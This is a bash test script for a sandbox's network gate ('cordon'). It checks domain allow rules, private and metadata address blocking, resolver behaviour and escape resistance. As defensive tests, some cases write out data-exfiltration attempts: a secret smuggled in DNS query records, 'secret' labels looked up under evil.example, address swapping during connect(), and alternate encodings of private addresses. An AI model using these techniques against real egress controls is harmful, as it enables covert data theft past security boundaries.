#!/bin/bash
# network - connections by host: granted ones work as outside, and no others leave.
# SPDX-License-Identifier: MIT
# also with: BACKEND=bwrap
# root and user: here bubblewrap does not start for every user
. "$(dirname "$0")/../support/lib.sh"
. "$(dirname "$0")/../support/hosts.sh"
hosts_folder "$@"
hosts_start
run() { plain "$CORDON" run --headless "$@"; }
quiet() { run "$@" 2>/dev/null; }
arrived() { # what the servers' side saw since the last mark, apart from names
	tail -n +"$((mark + 1))" "$HOSTS/packets" | grep -v ' 53$' || true
}
asked() { tail -n +"$((names + 1))" "$HOSTS/names"; }

cat >to.py <<'E2'
import errno, socket, sys
def get(host, port, word=b"ping"):
    try:
        s = socket.create_connection((host, int(port)), timeout=60)
        s.sendall(word)
        return s.recv(100).decode()
    except socket.gaierror as e:
        return "no such name" if e.errno in (socket.EAI_NONAME, socket.EAI_NODATA) else "resolver: " + str(e)
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
for host in sys.argv[1:]:
    name, port = host.rsplit(":", 1)
    print(get(name, port))
E2
to() { quiet "${opts[@]}" -- python3 to.py "$@"; }

# ---- without a rule: refused at once, and nothing leaves, not even the question for a name
opts=(); mark
is "$(to good.example:7 203.0.113.7:7 169.254.169.254:80 '2001:db8:1::7:7' 10.9.9.9:7)" \
	"no such name
EACCES
EACCES
EACCES
EACCES" "headless and without a rule, everything is refused"
is "$(arrived)" "" "36: nothing arrived"
is "$(asked)" "" "39: no name was asked for"
like "$(run -- python3 to.py good.example:7 203.0.113.7:7 2>&1)" \
	"connecting to good.example was refused: no rule.*connecting to 203.0.113.7:7 was refused.*allow = connect good.example.*allow = connect 203.0.113.7:7" \
	"and it is said in the end, with the lines that allow it"
like "$(cordon_in "$dir" audit --json | grep -c '"event":"deny".*good.example')" '^[1-9]' "the audit log has it"

# ---- a rule about a name
opts=(--allow-domain good.example); mark
is "$(to good.example:7 alias.example:7 other.example:7 203.0.113.7:7)" \
	"ping
no such name
no such name
ping" "a name that is allowed is dialled, also by its address"
unlike "$(asked)" "alias|other" "39: no other name was asked for"
unlike "$(quiet "${opts[@]}" -- python3 -c 'import socket
for i in range(20):
    try: socket.gethostbyname(f"secret{i}.evil.example")
    except OSError: pass'; asked)" "evil" "39: nor are labels of unknown domains"
is "$(opts=(--allow-domain six.example) && to six.example:7)" ping "IPv6 too"
is "$(opts=(--allow-domain two.example) && to two.example:7)" ping "the next address where the first does not answer"
is "$(opts=(--allow-domain alias.example) && to alias.example:7)" ping "through a CNAME"
opts=(--allow-domain good.example:7); mark
is "$(to good.example:7 good.example:80 good.example:9)" "ping
EACCES
EACCES" "at that port alone"
unlike "$(arrived)" ' (80|9)$' "nothing arrived at others"

opts=()
is "$(to registry.npmjs.org:443 registry.npmjs.org:80)" "ECONNREFUSED
EACCES" "profiles of tool chains open their registries"
printf '[rule "mine"]\n\tdeny = connect registry.npmjs.org\n' >>"$HOME/.config/cordon/config"
is "$(to registry.npmjs.org:443)" "no such name" "which a rule takes back"
printf '[rule "mine"]\n\tallow = connect good.example:7\n' >>"$HOME/.config/cordon/config"
is "$(to good.example:7)" ping "and opens others"
use_backend

# ---- queries are built anew: no bytes of the agent's leave but an allowed name
cat >smuggle.py <<'E2'
import socket, struct
SECRET = b"STOLEN" * 200
OPT = b"\0" + struct.pack(">HHIHHH", 41, 1232, 0, 4 + len(SECRET), 65001, len(SECRET)) + SECRET
TXT = b"\0" + struct.pack(">HHIH", 16, 1, 0, len(SECRET)) + SECRET
def question(name, kind):
    return b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0" + struct.pack(">HH", kind, 1)
def ask(name, kind, extra=b"", counted=0, flags=0x0100, tcp=False):
    q = struct.pack(">HHHHHH", 7, flags, 1, 0, 0, counted) + question(name, kind) + extra
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(60)
    s.connect(("127.0.0.53", 53))
    s.sendall(struct.pack(">H", len(q)) + q if tcp else q)
    got = s.recv(4096)[2 if tcp else 0:]
    echoed = got[12:12 + len(question(name, kind))] == question(name, kind)
    print(kind, "answered" if got[:2] == q[:2] and echoed else "wrong", got[3] & 15, struct.unpack(">HHHH", got[4:12]))
ask(b"good.example", 1, TXT, 1)
ask(b"good.example", 28, OPT, 1)
ask(b"good.example", 15, SECRET)
ask(b"good.example", 2, SECRET, tcp=True)
ask(b"GoOD.eXAmpLE", 16, flags=0x0170)
for kind in (10, 252, 255, 41, 65280):
    ask(b"good.example", kind)
ask(b"good.example", 1)
E2
opts=(--allow-domain good.example); mark
lines=$(wc -l <"$HOSTS/queries")
is "$(quiet "${opts[@]}" -- python3 smuggle.py)" "1 answered 0 (1, 1, 0, 0)
28 answered 0 (1, 0, 0, 0)
15 answered 0 (1, 0, 0, 0)
2 answered 0 (1, 0, 0, 0)
16 answered 0 (1, 0, 0, 0)
10 answered 0 (1, 0, 0, 0)
252 answered 0 (1, 0, 0, 0)
255 answered 0 (1, 0, 0, 0)
41 answered 0 (1, 0, 0, 0)
65280 answered 0 (1, 0, 0, 0)
1 answered 0 (1, 1, 0, 0)" "each query is answered, with its own letters"
name=04676f6f64076578616d706c6500 opt=00002904d0000000000000
is "$(tail -n +"$((lines + 1))" "$HOSTS/queries" | sort -u)" "$(for kind in 0001 0002 000f 001c; do
	echo "01000001000000000001$name${kind}0001$opt"; done; echo "01100001000000000001${name}00100001$opt")" \
	"the nameserver sees a header, the name in small letters, a type, and an EDNS record without options"

# ---- localhost is this sandbox
cat >own.py <<'E2'
import socket
for name in ("localhost", "app.localhost", "a.b.LOCALHOST"):
    for family in (socket.AF_INET, socket.AF_INET6):
        try: print(sorted({a[4][0] for a in socket.getaddrinfo(name, 80, family, socket.SOCK_STREAM)}))
        except OSError as e: print(e)
s = socket.create_server(("127.0.0.1", 8123))
print(socket.create_connection(("app.localhost", 8123), timeout=60).getpeername())
E2
mark
is "$(opts=() && quiet -- python3 own.py)" "['127.0.0.1']
['::1']
['127.0.0.1']
['::1']
['127.0.0.1']
['::1']
('127.0.0.1', 8123)" "localhost and the names below it are 127.0.0.1 and ::1"
is "$(asked)" "" "and no nameserver is asked for them"
rm own.py smuggle.py

# ---- 38: names lead to no private address, by whatever form
opts=(--allow-domain private.example --allow-domain metadata.example --allow-domain local.example); mark
is "$(to private.example:7 metadata.example:80)" "EACCES
EACCES" "38: a name opens no private address"
is "$(to 10.9.9.9:7 0x0a090909:7 012.9.9.9:7 ::ffff:10.9.9.9:7 2851995905:80)" "EACCES
EACCES
EACCES
EACCES
EACCES" "38: nor do other forms of it"
is "$(arrived)" "" "nothing arrived"
is "$(opts+=(--allow-domain 10.0.0.0/8) && to private.example:7 10.9.9.9:7)" "ping
ping" "a rule about addresses does"
ip route add local 203.0.113.64/28 dev lo && ip -6 route add local 2001:db8:3::/64 dev lo
opts=(--allow-network); mark
is "$(to 203.0.113.70:7777 "2001:db8:3::1:7777")" "EACCES
EACCES" "nor an address that a route alone makes this host's"
is "$(to good.example:7 203.0.113.7:7 private.example:7 metadata.example:80 10.9.9.9:7)" "ping
ping
EACCES
EACCES
EACCES" "--allow-network: all but those"
unlike "$(arrived)" '(10\.9\.9\.9|169\.254)' "nothing arrived there"
python3 -c 'import socket, time
s = socket.create_server(("127.0.0.1", 7777)); s.settimeout(600)
o = socket.create_server(("192.0.2.1", 7777))
open("listening", "w").close()
try: s.accept(); open("reached", "w").close()
except OSError: pass' &
local_server=$!
wait_for 20 test -e listening
is "$(to 127.0.0.1:7777 192.0.2.1:7777 localhost:7777 0.0.0.0:7777)" "ECONNREFUSED
EACCES
ECONNREFUSED
ECONNREFUSED" "41: the host's own services are not reached"
ok "41: none heard anything" test ! -e reached
# A busy kernel may refuse a connection after connect() has returned, which is not noticed: so a few times.
run "${opts[@]}" -- sh -c 'for i in 1 2 3 4 5; do python3 to.py 127.0.0.1:7777 localhost:7777 127.0.0.1:7776; sleep 0.1; done' \
	>/dev/null 2>"$TEST_TMP/said"
like "$(cat "$TEST_TMP/said")" "connecting to 127.0.0.1:7777 was refused: it is a service of this host's loopback.*allow = connect 127.0.0.1:7777" \
	"which is said, with the rule that shows it inside"
unlike "$(cat "$TEST_TMP/said")" "7776|::1" "but nothing of ports where the host has none"
unlike "$(run --publish 7788 -- python3 -c 'import socket, time
s = socket.create_server(("127.0.0.1", 7788)); time.sleep(1); s.close(); print(socket.socket().connect_ex(("127.0.0.1", 7788)))' 2>&1)" \
	"7788 was refused" "nor where this session publishes a port"
kill "$local_server"
python3 -c 'import socket
s = socket.create_server(("127.0.0.1", 7778)); s.settimeout(600)
open("listening2", "w").close()
while True:
    c, _ = s.accept(); c.sendall(c.recv(9) + b" from the host"); c.close()' &
local_server=$!
wait_for 20 test -e listening2
is "$(opts=(--allow-domain 127.0.0.1:7778) && to 127.0.0.1:7778 localhost:7778 127.0.0.1:7777)" "ping from the host
ping from the host
ECONNREFUSED" "a rule shows a service of the host's loopback inside"
is "$(opts=(--allow-domain localhost:7778) && to 127.0.0.1:7778 localhost:7778 127.0.0.1:7777)" "ping from the host
ping from the host
ECONNREFUSED" "so does one that calls it localhost"
is "$(quiet --allow-domain 127.0.0.1:7778 -- python3 -c 'import socket, threading
s = socket.create_server(("127.0.0.1", 7778)); c = socket.create_connection(("127.0.0.1", 7778)); a, _ = s.accept(); a.sendall(b"inside"); print(c.recv(9).decode())')" \
	inside "and who listens there inside comes first"
kill "$local_server"

# ---- 39: who owns an allowed name lets it lead elsewhere
opts=(--allow-domain moves.example)
is "$(quiet "${opts[@]}" -- sh -c 'python3 to.py moves.example:7; touch was; while [ ! -e go ]; do sleep 0.05; done; python3 to.py moves.example:7' &
	inside=$!
	wait_for 20 test -e was
	touch "$HOSTS/moved" go
	wait $inside)" "ping
EACCES" "39: the new address is judged, too"

# ---- 37: the address in memory changes while the call is looked at; reconnects; AF_UNSPEC
cat >swap.py <<'E2'
import ctypes, socket, struct, threading
libc = ctypes.CDLL(None, use_errno=True)
good = struct.pack(">H", 7)
def sa(ip, port): return struct.pack("=H", 2) + struct.pack(">H", port) + socket.inet_aton(ip) + bytes(8)
buf = ctypes.create_string_buffer(sa("203.0.113.7", 7), 16)
stop = False
def flip():
    while not stop:
        buf[4:8] = socket.inet_aton("10.9.9.9"); buf[4:8] = socket.inet_aton("203.0.113.7")
threading.Thread(target=flip, daemon=True).start()
for i in range(300):
    s = socket.socket(); libc.connect(s.fileno(), buf, 16); s.close()
stop = True
s = socket.create_connection(("203.0.113.7", 7))
libc.connect(s.fileno(), struct.pack("=H", 0) + bytes(14), 16)
for flags in (0, 0x20000000):
    try: s.sendto(b"leak", flags, ("10.9.9.9", 7))
    except OSError: pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in (7, 53, 443):
    for host in ("203.0.113.7", "10.9.9.9", "8.8.8.8", "192.0.2.2"):
        for i in range(3):
            try: u.sendto(b"leak", (host, port)); u.connect((host, port)); u.send(b"leak")
            except OSError: pass
print("done")
E2
opts=(--allow-domain 203.0.113.7:7); mark
is "$(quiet "${opts[@]}" -- python3 swap.py)" "done" "37: addresses are swapped, sockets turned around"
unlike "$(arrived)" '10\.9\.9\.9' "37: nothing arrived elsewhere"
unlike "$(arrived | grep -vx '17 203.0.113.7 7')" '^17 ' "36: no datagram left but to what was allowed"
unlike "$(arrived)" '^1 ' "36: nor anything else"
# Nor do rare families and other ways out.
mark
run -- "$TOOLS/escape/net" out 203.0.113.7 7 >/dev/null 2>&1
run -- "$TOOLS/escape/net" families >/dev/null 2>&1
is "$(arrived)" "" "36: no way out leads anywhere"

# ---- it behaves as outside
cat >like.py <<'E2'
import asyncio, errno, select, socket, struct, time
def code(f):
    try: return f()
    except OSError as e: return errno.errorcode.get(e.errno, str(e))
def refused():
    return socket.create_connection(("203.0.113.7", 81), timeout=60)
print("refused", code(refused))
def nonblocking():
    s = socket.socket(); s.setblocking(False)
    r = s.connect_ex(("203.0.113.7", 7)); select.select([], [s], [], 60)
    return errno.errorcode[r], s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR), s.getpeername()
print("nonblocking", code(nonblocking))
def registered():
    s = socket.socket(); s.setblocking(False); e = select.epoll(); e.register(s, select.EPOLLOUT)
    d = s.dup(); s.connect_ex(("203.0.113.7", 7))
    while e.poll(60)[0][1] != select.EPOLLOUT: pass
    d.setblocking(True); d.sendall(b"via dup"); return d.recv(20)
print("epoll and dup", code(registered))
def timeout():
    t = time.time(); s = socket.socket(); s.settimeout(0.4)
    try: s.connect(("192.0.2.77", 80))
    except socket.timeout: return 0.35 < time.time() - t
print("timeout", code(timeout))
def sndtimeo():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, 300000))
    return s.connect(("192.0.2.77", 80))
print("SO_SNDTIMEO", code(sndtimeo))
def half():
    s = socket.create_connection(("203.0.113.7", 9)); s.sendall(bytes(5000000)); s.shutdown(socket.SHUT_WR)
    return s.recv(100)
print("half-closed", code(half))
def large():
    s = socket.create_connection(("203.0.113.7", 7)); want = bytes(range(256)) * 8192; got = bytearray(); sent = 0
    s.setblocking(False)
    while len(got) < len(want):
        r, w, _ = select.select([s], [s] if sent < len(want) else [], [], 60)
        if w: sent += s.send(want[sent:sent + 65536])
        if r: got += s.recv(1 << 16)
    return bytes(got) == want
print("both ways", code(large))
def reset():
    s = socket.create_connection(("203.0.113.7", 6)); s.sendall(b"x"); return s.recv(10)
print("reset", code(reset))
def again():
    s = socket.create_connection(("203.0.113.7", 7)); return s.connect(("203.0.113.7", 7))
print("connected twice", code(again))
def bound():
    s = socket.socket(); s.bind(("", 20404)); s.connect(("203.0.113.7", 7)); return s.getsockname()[1]
print("bound", code(bound))
def mapped():
    s = socket.socket(socket.AF_INET6); s.connect(("::ffff:203.0.113.7", 7)); return s.getpeername()[0]
print("mapped", code(mapped))
async def many():
    async def one(i):
        r, w = await asyncio.open_connection("203.0.113.7", 7); w.write(b"%d" % i); d = await r.read(10); w.close()
        return d == b"%d" % i
    return sum(await asyncio.gather(*[one(i) for i in range(200)]))
print("200 at once", asyncio.run(many()))
print("no route for datagrams is no error", code(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("203.0.113.7", 9))))
print("IPv6", code(lambda: socket.create_connection(("2001:db8:1::7", 7)).getpeername()[0]))
print("IPv6 refused", code(lambda: socket.create_connection(("2001:db8:1::7", 8))))
E2
opts=(--allow-domain 203.0.113.7 --allow-domain 192.0.2.77 --allow-domain 2001:db8:1::7)
want=$(python3 like.py)
is "$(quiet "${opts[@]}" -- python3 like.py)" "$want" "sockets behave as they do outside"
# A listener inside is kept for the next connection to that host, which may be down by then.
there python3 -c 'import socket
s = socket.create_server(("203.0.113.7", 70)); open("listens", "w").close()
for i in range(21): c = s.accept()[0]; i < 20 or s.close(); c.close()' &
wait_for 60 test -e listens
quiet "${opts[@]}" -- python3 -c 'import errno, os, socket, time
def once(): return socket.create_connection(("203.0.113.7", 70), timeout=60).recv(1)
once(); open("first", "w").close()
while not os.path.exists("counted"): time.sleep(0.02)
print({once() for i in range(20)}); open("last", "w").close()
while not os.path.exists("counted again"): time.sleep(0.02)
try: once()
except OSError as e: print(errno.errorcode[e.errno])' >"$TEST_TMP/out" &
inside=$!
woken() { sed -n 's/^voluntary_ctxt_switches:\t//p' "/proc/$(named_below $$ cordon-router)/status"; }
ok "a host that is connected to" wait_for 60 test -e first
before=$(woken) && touch counted
ok "and twenty times more" wait_for 60 test -e last
# The first connection may be counted late.
ok "does not wake the router each time" test $(($(woken) - before)) -lt 5
touch "counted again"
wait "$inside"
is "$(cat "$TEST_TMP/out")" "{b''}
ECONNREFUSED" "and refuses where nobody listens any more"

# ---- names
cat >names.py <<'E2'
import socket, struct
def ask(name, kind, tcp=False, server="127.0.0.53", room=4096):
    q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    if tcp:
        s = socket.create_connection((server, 53), timeout=60); s.sendall(struct.pack(">H", len(q)) + q)
        n = struct.unpack(">H", s.recv(2))[0]; r = b""
        while len(r) < n: r += s.recv(n)
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60); s.connect((server, 53)); s.send(q); r = s.recv(room)
    return "%d answers, code %d%s" % (struct.unpack(">H", r[6:8])[0], r[3] & 15, ", cut" if r[2] & 2 else "")
print(ask("good.example", 1)); print(ask("good.example", 1, tcp=True)); print(ask("good.example", 1, server="127.0.0.1"))
print(ask("text.example", 16)); print(ask("large.example", 1)); print(ask("large.example", 1, tcp=True)); print(ask("evil.example", 16))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.53", 53))
for junk in (b"", b"x" * 5, b"\xff" * 500, b"\0" * 12, b"\0\0\1\0\0\1\0\0\0\0\0\0" + b"\xc0\x0c" * 50, b"\0\0\1\0\0\1\0\0\0\0\0\0\3a b\0\0\1\0\1"): s.send(junk)
t = socket.create_connection(("127.0.0.53", 53)); t.sendall(b"\xff\xff" + b"\0" * 3000)
print(ask("good.example", 1))
print(socket.gethostbyname("good.example"), len(socket.getaddrinfo("large.example", 80, type=socket.SOCK_STREAM)))
E2
is "$(quiet --allow-domain '*.example' -- python3 names.py | sed 's/^[0-9]* answers, code 0, cut/some, cut/')" "1 answers, code 0
1 answers, code 0
1 answers, code 0
1 answers, code 0
some, cut
100 answers, code 0
0 answers, code 3
1 answers, code 0
203.0.113.7 100" "names: by UDP and TCP, cut and whole, after bytes that are none"
mark
seconds=$(quiet --allow-domain good.example --allow-domain brief.example -- python3 -c 'import socket, time
began = time.monotonic()
for i in range(5): socket.gethostbyname("good.example")
end = time.monotonic() + 1.1
while True:
    over = time.monotonic() > end
    socket.gethostbyname("brief.example"); time.sleep(0.05)
    if over: break
print(int(time.monotonic() - began))')
like "$seconds" '^[1-9]' "names that are asked for again"
asked=$(asked | grep -c '^good.example 1$')
ok "are answered from what is kept" test "$asked" -ge 1 -a "$asked" -le $((1 + seconds / 60))
asked=$(asked | grep -c '^brief.example 1$')
ok "for as long as their TTL says" test "$asked" -ge 2 -a "$asked" -le $((2 + seconds))
is "$(quiet --allow-domain service.example -- python3 -c 'import socket
q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\7service\7example\0\0\x41\0\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60); s.connect(("127.0.0.53", 53)); s.send(q); r = s.recv(999)
print(b"h2" in r, r[7])
t = socket.create_connection(("203.0.113.7", 7), timeout=60); t.sendall(b"by its hint"); print(t.recv(99).decode())')" "True 1
by its hint" "HTTPS records, and the address that they hint at goes by their name"
is "$(quiet --allow-domain good.example -- cat /etc/resolv.conf | grep -c '^nameserver 127.0.0.53$')" 1 "the resolver inside is cordon's"

# ---- a resolver that is slow or dead holds up nobody else
cat >meanwhile.py <<'E2'
import socket, sys, threading, time
start = time.time(); found = []
def look():
    try: found.append(socket.gethostbyname(sys.argv[1]))
    except socket.gaierror as e: found.append("again" if e.errno == socket.EAI_AGAIN else e.errno)
t = threading.Thread(target=look); t.start()
s = socket.create_connection(("203.0.113.7", 7)); s.sendall(b"meanwhile"); print(s.recv(99).decode(), not found)
open("heard", "w").close(); t.join(); print(found[0])
E2
opts=(--allow-domain '*.example' --allow-domain 203.0.113.7)
(wait_for 60 test -e heard; touch "$HOSTS/hurry") & # it answers when the other one has been heard
is "$(quiet "${opts[@]}" -- env RES_OPTIONS='timeout:30' python3 meanwhile.py slow.example)" "meanwhile True
203.0.113.7" "a slow resolver"
echo "nameserver 192.0.2.77" >"$HOSTS/resolv.conf"
is "$(quiet "${opts[@]}" -- env RES_OPTIONS='timeout:5 attempts:1' python3 meanwhile.py good.example)" "meanwhile True
again" "a dead one"
echo "nameserver 192.0.2.2" >"$HOSTS/resolv.conf"

# ---- real programs
web=(--allow-domain good.example)
is "$(quiet "${web[@]}" -- curl -s http://good.example/)" hello "curl"
if command -v git >/dev/null; then
	(cd "$HOSTS/www" && git init -q r && cd r && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m first && git update-server-info)
	is "$(quiet "${web[@]}" -- sh -c 'git clone -q http://good.example/r/.git c && git -C c log --format=%s')" first "git over http"
fi
command -v node >/dev/null && [ -x "$(readlink -f "$(command -v node)")" ] &&
	is "$(quiet "${web[@]}" -- node -e 'fetch("http://good.example/").then(r => r.text()).then(t => console.log(t.trim()), e => console.log(e.cause.code))')" hello "node"
is "$(quiet -- sh -c 'curl -s http://good.example/; echo $?')" 6 "curl without a rule: cannot resolve"

# ---- modes
isnt "$(opts=(--no-network) && to good.example:7 203.0.113.7:7)" "ping
ping" "--no-network: nothing"
is "$(opts=(--network open) && to good.example:7 10.9.9.9:7)" "ping
ping" "--network open: everything"
out=$(run --network none --allow-domain a.b -- true 2>&1)
is "$?" 125 "what contradicts is refused"
like "$out" "contradict" "in words"
out=$(run --allow-domain 'a b' -- true 2>&1)
is "$?" 125 "so is what is no host"
like "$(plain "$CORDON" why connect good.example:443)" "^ask .*no rule covers" "why: asked"
like "$(plain "$CORDON" why connect 0x7f000001:80)" "^ask .*127.0.0.1:80.*loopback" "why: what needs a rule of its own, by one name"

# ---- a host that makes no second namespace: as without a network, and doctor says so
less() { unshare -U --map-current-user --keep-caps sh -c 'echo 1 >/proc/sys/user/max_net_namespaces && exec "$@"' sh "$@"; }
if [ "$(id -u)" != 0 ] && less true 2>/dev/null; then
	is "$(less setpriv --inh-caps=-all --ambient-caps=-all -- "$CORDON" run --headless --allow-domain good.example -- python3 to.py good.example:7 203.0.113.7:7 2>/dev/null)" \
		"resolver: [Errno -3] Temporary failure in name resolution
ENETUNREACH" "without a second network namespace there is none"
	like "$(less setpriv --inh-caps=-all --ambient-caps=-all -- "$CORDON" doctor)" "without +network gate" "which doctor tells"
else
	skip "without a second network namespace" "its number cannot be limited here"
fi

# ---- what is left when parts die
for victim in cordon-router cordon-relay; do
	rm -f up killed
	quiet "${web[@]}" -- python3 -c 'import os, socket, time
s = socket.create_connection(("good.example", 7)); s.sendall(b"a"); print(s.recv(1)); open("up", "w").close()
try:
    while s.recv(1): pass
    print("closed")
except OSError as e: print("reset")
try: socket.create_connection(("203.0.113.7", 7), timeout=60); early = time.time() - os.stat("killed").st_mtime < 1
except OSError as e: early = False
print("connected" if early else "refused, or a second had passed")
end = time.time() + 60
while time.time() < end:
    try: socket.create_connection(("203.0.113.7", 7), timeout=60).close()
    except OSError: time.sleep(0.1)
    else: print("connected"); break' >"$TEST_TMP/out" &
	inside=$!
	wait_for 20 test -e up
	for p in cordon-relay cordon-router; do
		is "$(sed -n 's/^\(Seccomp\|NoNewPrivs\|CapBnd\):\t//p' "/proc/$(named_below $$ $p)/status" | tail -n 2 | tr '\n' ' ')" "1 2 " "$p makes the calls of its loop alone"
	done
	dead=$(named_below $$ $victim)
	touch killed
	kill -9 "$dead"
	ok "a $victim that is killed leaves no zombie" wait_for 20 test ! -e "/proc/$dead"
	wait "$inside"
	like "$(cat "$TEST_TMP/out")" "(reset|closed).*refused.*connected" "without it a connection ends, and a later one starts another"
done
# Without free descriptors connections fail; the relay does not loop over those that it cannot accept.
rm -f up seen
(ulimit -n 300 && quiet --allow-domain 203.0.113.7:7 -- python3 -c 'import errno, os, socket, time
kept, codes = [], set()
for i in range(250):
    s = socket.socket(); s.settimeout(60)
    try: s.connect(("203.0.113.7", 7)); kept.append(s)
    except OSError as e: codes.add(errno.errorcode.get(e.errno, str(e)))
print(len(kept) > 100, "EPERM" in codes); open("up", "w").close()
while not os.path.exists("seen"): time.sleep(0.05)' >"$TEST_TMP/out") &
inside=$!
ok "many connections, few descriptors" wait_for 20 test -e up
ticks() { awk '{ print $14 + $15 }' "/proc/$(named_below $$ cordon-relay)/stat"; }
before=$(ticks) && sleep 1
ok "a relay without descriptors rests" test $(($(ticks) - before)) -lt 5
touch seen
wait "$inside"
is "$(cat "$TEST_TMP/out")" "True False" "and says that there are too many"
is "$(named_below $$ cordon-relay)$(named_below $$ cordon-router)" "" "nothing is left running"
kill "$servers"

# ---- an answer about a whole domain is a rule of the gate's, too, which opens no library for it
echo there >"$HOME/note"
printf '#!/bin/sh\necho '\''{"allow":true,"scope":"session","extent":"tree"}'\''\n' >"$TEST_TMP/tree"
chmod +x "$TEST_TMP/tree"
is "$(quiet --set "approval.command=case \$(cat) in *connect*) $TEST_TMP/tree ;; esac" -- sh -c "python3 to.py www.good.example:7 >/dev/null; cat '$HOME/note'")" there \
	"after an answer about a whole domain files are read as before"
done_testing
